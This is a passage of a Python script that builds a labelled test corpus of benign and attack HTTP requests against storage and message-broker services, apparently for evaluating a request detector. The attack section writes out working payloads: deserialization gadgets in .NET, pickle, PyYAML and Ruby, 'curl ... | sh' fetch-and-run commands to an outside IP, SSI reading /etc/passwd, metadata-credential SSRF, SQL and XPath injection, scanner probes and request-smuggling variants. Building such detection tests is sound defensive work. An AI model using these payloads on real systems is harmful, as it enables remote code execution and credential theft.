                         "payload": "AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3IsIFZlcnNpb249My4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJsaWNLZXlUb2tlbj0zMWJmMzg1NmFkMzY0ZTM1BQEAAABCTWljcm9zb2Z0LlZpc3VhbFN0dWRpby5UZXh0LkZvcm1hdHRpbmcuVGV4dEZvcm1hdHRpbmdSdW5Qcm9wZXJ0aWVzAQAAAA9Gb3JlZ3JvdW5kQnJ1c2gBAgAAAAYDAAAAswU8P3htbCB2ZXJzaW9uPSIxLjAiIGVuY29kaW5nPSJ1dGYtMTYiPz4NCjxPYmplY3REYXRhUHJvdmlkZXIgTWV0aG9kTmFtZT0iU3RhcnQiIElzSW5pdGlhbExvYWRFbmFibGVkPSJGYWxzZSIgeG1sbnM9Imh0dHA6Ly9zY2hlbWFzLm1pY3Jvc29mdC5jb20vd2luZngvMjAwNi94YW1sL3ByZXNlbnRhdGlvbiIgeG1sbnM6c2Q9ImNsci1uYW1lc3BhY2U6U3lzdGVtLkRpYWdub3N0aWNzO2Fzc2VtYmx5PVN5c3RlbSIgeG1sbnM6eD0iaHR0cDovL3NjaGVtYXMubWljcm9zb2Z0LmNvbS93aW5meC8yMDA2L3hhbWwiPg0KICA8T2JqZWN0RGF0YVByb3ZpZGVyLk9iamVjdEluc3RhbmNlPg0KICAgIDxzZDpQcm9jZXNzPg0KICAgICAgPHNkOlByb2Nlc3MuU3RhcnRJbmZvPg0KICAgICAgICA8c2Q6UHJvY2Vzc1N0YXJ0SW5mbyBBcmd1bWVudHM9Ii9jIGNhbGMiIEZpbGVOYW1lPSJjbWQiLz4NCiAgICAgIDwvc2Q6UHJvY2Vzcy5TdGFydEluZm8+DQogICAgPC9zZDpQcm9jZXNzPg0KICA8L09iamVjdERhdGFQcm92aWRlci5PYmplY3RJbnN0YW5jZT4NCjwvT2JqZWN0RGF0YVByb3ZpZGVyPgs=",
                         "payload_encoding": "base64"})))
    cases.append(("python-pickle-celery", "POST", "/api/exchanges/%2F/celery/publish", pick(RABBIT), "application/json",
                  jdump({"properties": {"content_type": "application/x-python-serialize", "content_encoding": "binary",
                                        "headers": {"task": "tasks.thumbnail", "id": uuid4()}},
                         "routing_key": "celery", "payload": b64(pickle_payload("curl -s http://203.0.113.5/p | sh")), "payload_encoding": "base64"})))
    cases.append(("python-pickle-raw", "POST", "/v1.0/publish/pubsub/jobs?metadata.rawPayload=true", pick(DAPR), "application/octet-stream",
                  pickle_payload("id > /tmp/x")))
    cases.append(("pyyaml-apply", "PUT", "/api/v1/pipelines/etl/config", "ingest-api.data.svc.cluster.local:8080", "application/x-yaml",
                  "source: s3://data-lake/raw/\nhook: !!python/object/apply:os.system [\"curl http://203.0.113.5/y | sh\"]\n"))
    cases.append(("pyyaml-new-subprocess", "PUT", "/data-lake/configs/pipeline.yaml", pick(S3_HOSTS), "application/yaml",
                  "steps:\n  - !!python/object/new:subprocess.check_output [[\"/bin/sh\", \"-c\", \"id\"]]\n"))
    cases.append(("ruby-yaml-gadget", "PUT", "/api/v1/pipelines/reports/config", "ingest-api.data.svc.cluster.local:8080", "application/x-yaml",
                  "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n"
                  "  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
                  "       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n"
                  "           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n"
                  "           git_set: id\n       method_id: :resolve\n"))
    cases.append(("ssi-exec-object", "PUT", "/static-assets/www/status.shtml", pick(S3_HOSTS), "text/html",
                  "<html><body>Status: <!--#exec cmd=\"cat /etc/passwd\" --></body></html>"))
    cases.append(("esi-include-metadata", "PUT", "/static-assets/www/banner.html", pick(S3_HOSTS), "text/html",
                  "<div><esi:include src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\"/></div>"))
    cases.append(("xpath-injection", "GET", "/api/v1/manifests/search?bucket=velero&name=" + q("x' or name()='password' or 'a'='a"),
                  "velero-ui.velero.svc.cluster.local:3000", None, None))
    for i in range(n):
        name, method, path, host, ct, body = cases[i % len(cases)]
        if name == "node-serialize-cookie":
            ck = b64(jdump({"username": "_$$ND_FUNC$$_function(){return require('child_process').execSync('id').toString()}()"}))
            attack("generic", name, method, path, [["Host", host], ["User-Agent", pick(UA_BROWSER)], ["Accept", "text/html"],
                                                   ["Cookie", "profile=%s" % ck]])
            continue
        if host in S3_HOSTS:
            attack("generic", name, method, path, s3_headers(pick(["minio", "rclone"]), host, body=body, ctype=ct), body)
            continue
        if "15672" in host or "rabbit" in host:
            attack("generic", name, method, path, rabbit_headers(host, ct), body)
            continue
        attack("generic", name, method, path, api_headers(host, ct, auth=None if host in DAPR else bearer(),
                                                          ua=pick(["axios/1.6.8", "python-requests/2.31.0"])), body)


# ---------------------------------------------------------------------------
# scanner: attack tools and their probes against storage endpoints
# ---------------------------------------------------------------------------

def gen_scanner(n):
    probes = [
        ("sqlmap/1.8.4#stable (https://sqlmap.org)", "GET", "/api/v1/reports/query?bucket=data-lake&key=x.csv&name=%s" % q("1) AND 8812=8812 AND (1650=1650"), None),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000637)", "GET", "/minio/bootstrap/v1/verify", None),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "POST", "/minio/bootstrap/v1/verify", ""),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "GET", "/.env", None),
        ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "GET", "/", None),
        ("gobuster/3.6", "GET", "/actuator/env", None),
        ("Fuzz Faster U Fool v2.1.0-dev", "GET", "/.git/config", None),
        ("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "GET", "/wp-login.php", None),
        ("feroxbuster/2.10.2", "GET", "/.aws/credentials", None),
        ("Wfuzz/3.1.0", "GET", "/minio/v2/metrics/cluster", None),
        ("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "GET", "/server-status", None),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36 Nuclei", "GET", "/actuator/heapdump", None),
        ("Arachni/v1.6.1.3", "GET", "/phpinfo.php", None),
        ("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)", "GET", "/api/v1/check-version", None),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "GET", "/minio/admin/v3/info", None),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:Random URI encoding (non-UTF8)) (Test:003577)", "GET", "/%2e%2e/%2e%2e/minio/.minio.sys/config/config.json", None),
        ("sqlmap/1.7.12#stable (https://sqlmap.org)", "GET", "/api/v1/objects/search?bucket=media-uploads&q=%s" % q("test' AND (SELECT 5309 FROM (SELECT(SLEEP(5)))iQkP) AND 'vNlj'='vNlj"), None),
    ]
    for i in range(n):
        ua, method, path, body = probes[i % len(probes)]
        host = pick(S3_HOSTS + CONSOLE_HOSTS)
        hdrs = [["Host", host], ["User-Agent", ua], ["Accept", "*/*"]]
        if "Nuclei" in ua and method == "POST":
            hdrs += [["Content-Type", "application/x-www-form-urlencoded"], ["Accept-Encoding", "gzip"]]
        if "sqlmap" in ua:
            hdrs += [["Accept-Encoding", "gzip,deflate"], ["Cache-Control", "no-cache"], ["Connection", "close"]]
        attack("scanner", "probe-" + path.strip("/").split("?")[0].split("/")[-1].replace(".", "").replace("%2e", "")[:24].lower() or "root",
               method, path, hdrs, body)


# ---------------------------------------------------------------------------
# protocol: request framing abuses (raw bytes)
# ---------------------------------------------------------------------------

def gen_protocol(n):
    host = "minio.storage.svc.cluster.local:9000"
    auth, date = sigv4_auth(host)
    common = "Host: %s\r\nUser-Agent: %s\r\nAuthorization: %s\r\nX-Amz-Date: %s\r\nX-Amz-Content-Sha256: UNSIGNED-PAYLOAD\r\n" % (
        host, UA_MINIO_GO[0], auth, date)
    smuggled = "GET /minio/admin/v3/list-users HTTP/1.1\r\nHost: localhost\r\nX-Ignore: x"
    raws = [
        ("cl-te-smuggling", "PUT /backups/a.txt HTTP/1.1\r\n" + common + "Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s" % (
            len("0\r\n\r\n" + smuggled), smuggled)),
        ("te-cl-smuggling", "POST /backups?delete HTTP/1.1\r\n" + common + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n5c\r\n"
         "GPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n"),
        ("te-obfuscated-xchunked", "PUT /backups/b.txt HTTP/1.1\r\n" + common + "Content-Length: 5\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"),
        ("te-space-before-colon", "PUT /backups/c.txt HTTP/1.1\r\n" + common + "Transfer-Encoding : chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n"),
        ("te-double-header", "PUT /backups/d.txt HTTP/1.1\r\n" + common + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n3\r\nabc\r\n0\r\n\r\n"),
        ("duplicate-content-length", "PUT /backups/e.txt HTTP/1.1\r\n" + common + "Content-Length: 3\r\nContent-Length: 41\r\n\r\nabcGET /.minio.sys/config HTTP/1.1\r\nX: y\r\n\r\n"),
        ("bad-chunk-size-hex-prefix", "PUT /backups/f.txt HTTP/1.1\r\n" + common + "Transfer-Encoding: chunked\r\n\r\n0x1a\r\nabcdefghijklmnopqrstuvwxyz\r\n0\r\n\r\n"),
        ("bad-chunk-size-negative", "PUT /backups/g.txt HTTP/1.1\r\n" + common + "Transfer-Encoding: chunked\r\n\r\n-1\r\nabc\r\n0\r\n\r\n"),
        ("bad-chunk-size-overflow", "PUT /backups/h.txt HTTP/1.1\r\n" + common + "Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff1\r\nabc\r\n0\r\n\r\n"),
        ("invalid-method-chars", "G<E>T /backups/ HTTP/1.1\r\n" + common + "\r\n"),
        ("invalid-http-version", "GET /backups/?list-type=2 HTTP/1.7\r\n" + common + "\r\n"),
        ("content-length-non-numeric", "PUT /backups/i.txt HTTP/1.1\r\n" + common + "Content-Length: 3abc\r\n\r\nabc"),
        ("content-length-negative", "PUT /backups/j.txt HTTP/1.1\r\n" + common + "Content-Length: -1\r\n\r\nabc"),
        ("obs-fold-te", "PUT /backups/k.txt HTTP/1.1\r\n" + common + "Transfer-Encoding: identity\r\n chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n"),
        ("absolute-uri-metadata", "GET http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1\r\n" + common + "\r\n"),
        ("nul-in-header", "GET /backups/l.txt HTTP/1.1\r\n" + common + "X-Amz-Meta-Name: a\x00b\r\n\r\n"),
        ("te-tab-chunked", "PUT /backups/m.txt HTTP/1.1\r\n" + common + "Transfer-Encoding:\tchunked\r\nContent-Length: 30\r\n\r\n0\r\n\r\nDELETE /backups HTTP/1.1\r\n\r\n"),
    ]
    for i in range(n):
        name, raw = raws[i % len(raws)]
        add_raw("protocol", name, raw.encode("latin-1"))


# ---------------------------------------------------------------------------
# main
# ---------------------------------------------------------------------------

def build():
    # benign (~450)
    benign_s3_get(56)
    benign_s3_head(14)
    benign_s3_put(38)
    benign_s3_delete(10)
    benign_s3_list(40)
    benign_s3_presigned(24)
    benign_s3_multipart(24)
    benign_s3_delete_objects(8)
    benign_s3_copy(10)
    benign_s3_config(28)
    benign_s3_select(15)
    benign_minio_admin(14)
    benign_minio_console(18)
    benign_rgw_topics(5)
    benign_kafka(28)
    benign_schema_registry(12)
    benign_rabbitmq(26)
    benign_nats(8)
    benign_pulsar(12)
    benign_cloudevents(16)
    benign_dapr(16)
    benign_es_snapshot(8)
    benign_backup_tools(14)
    # dev-content (exactly 50)
    benign_dev_content()
    # attacks (~300)
    gen_sqli(35)
    gen_xss(30)
    gen_lfi(30)
    gen_rfi(12)
    gen_rce(30)
    gen_php(16)
    gen_java(24)
    gen_ssrf(30)
    gen_xxe(14)
    gen_ssti(16)
    gen_nosqli(17)
    gen_ldapi(10)
    gen_crlf(15)
    gen_protocol(17)
    gen_scanner(17)
    gen_generic(16)


def validate_and_write():
    os.makedirs(OUT_DIR, exist_ok=True)
    for path, recs, expect in ((BENIGN_FILE, BENIGN, "pass"), (ATTACK_FILE, ATTACKS, "detect")):
        with open(path, "w", encoding="utf-8", newline="\n") as f:
            for r in recs:
                assert r["expect"] == expect
                f.write(json.dumps(r, ensure_ascii=False) + "\n")
    # re-read and check
    ids = set()
    summary = {}
    for path, expect in ((BENIGN_FILE, "pass"), (ATTACK_FILE, "detect")):
        cats = Counter()
        with open(path, encoding="utf-8") as f:
            for ln, line in enumerate(f, 1):
                r = json.loads(line)
                assert r["set"] == "storage", (path, ln)
                assert r["expect"] == expect, (path, ln)
                assert r["id"] not in ids, r["id"]
                assert r["id"].startswith("storage/%s/" % r["category"]), r["id"]
                ids.add(r["id"])
                if "raw_b64" in r:
                    base64.b64decode(r["raw_b64"])
                else:
                    assert r["method"] and r["uri"] and r["version"] == "HTTP/1.1", r["id"]
                    assert all(isinstance(h, list) and len(h) == 2 for h in r["headers"]), r["id"]
                    assert any(h[0].lower() == "host" for h in r["headers"]), r["id"]
                    if "body" in r:
                        cl = [h[1] for h in r["headers"] if h[0].lower() == "content-length"]
                        assert cl == [str(len(r["body"].encode("utf-8")))], r["id"]
                        assert any(h[0].lower() == "content-type" for h in r["headers"]) or r["body"] == "", r["id"]
                    if r["category"] == "dev-content":
                        assert "/dev-content/" in r["id"]
                cats[r["category"]] += 1
        summary[os.path.basename(path)] = cats
    assert summary["storage-benign.jsonl"]["dev-content"] == 50, summary
    for fname, cats in summary.items():
        print("%s: %d requests" % (fname, sum(cats.values())))
        for c, k in sorted(cats.items()):
            print("  %-12s %d" % (c, k))
    return summary


if __name__ == "__main__":
    build()
    validate_and_write()
    sys.exit(0)
